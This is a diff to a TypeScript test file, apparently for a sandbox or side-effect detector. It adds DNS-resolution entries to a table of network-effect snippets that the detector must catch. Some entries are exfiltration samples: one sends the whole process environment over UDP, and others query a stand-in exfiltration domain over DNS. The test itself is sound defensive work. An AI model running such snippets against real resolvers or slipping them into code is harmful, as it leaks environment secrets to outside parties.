@@ -6,6 +6,7 @@
  */
 import childProcess from 'node:child_process';
 import dgram from 'node:dgram';
+import dns from 'node:dns';
 import fs from 'node:fs';
 import http from 'node:http';
 import http2 from 'node:http2';
@@ -78,6 +79,13 @@ export const EFFECT_TABLE: readonly [string, string][] = [
   ['dgram.Socket.send', 'dgram.createSocket("udp4").send(JSON.stringify(process.env), udpPort, "127.0.0.1")'],
   ['dgram.Socket.bind', 'dgram.createSocket("udp4").bind(0)'],
   ['dgram.Socket.connect', 'dgram.createSocket("udp4").connect(udpPort, "127.0.0.1")'],
+  // A DNS query carries data to the resolver it asks (the local UDP listener stands in for an attacker's server).
+  ['dns.Resolver.resolveTxt', '[new dns.Resolver({ timeout: 100, tries: 1 })].map((r) => (r.setServers(["127.0.0.1:" + udpPort]), r.resolveTxt("secret.exfil.example", () => {})))'],
+  ['dns.promises.Resolver.resolve4', '[new dns.promises.Resolver({ timeout: 100, tries: 1 })].map((r) => (r.setServers(["127.0.0.1:" + udpPort]), r.resolve4("secret.exfil.example")))'],
+  ['dns.resolveTxt', 'dns.resolveTxt("secret.exfil.example", () => {})'],
+  ['dns.promises.resolveTxt', 'dns.promises.resolveTxt("secret.exfil.example")'],
+  ['dns.lookup', 'dns.lookup("secret.exfil.example", () => {})'],
+  ['dns.promises.lookup', 'dns.promises.lookup("secret.exfil.example")'],
   ['http.request', 'http.request(`http://127.0.0.1:${tcpPort}/`).end()'],
   ['http.get', 'http.get(`http://127.0.0.1:${tcpPort}/`)'],
   ['http.ClientRequest', 'new http.ClientRequest(`http://127.0.0.1:${tcpPort}/`)'],
@@ -129,7 +137,7 @@ beforeAll(async () => {
   udp.on('message', () => contacts++);
   await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
   udpPort = udp.address().port;
-  references = { fs, fsp: fs.promises, fd, fh, dir, existing, workerFile, net, tls, dgram, http, https, http2, cp: childProcess, wt: workerThreads, tcpPort, udpPort };
+  references = { fs, fsp: fs.promises, fd, fh, dir, existing, workerFile, net, tls, dgram, dns, http, https, http2, cp: childProcess, wt: workerThreads, tcpPort, udpPort };
 });
 
 afterAll(async () => {
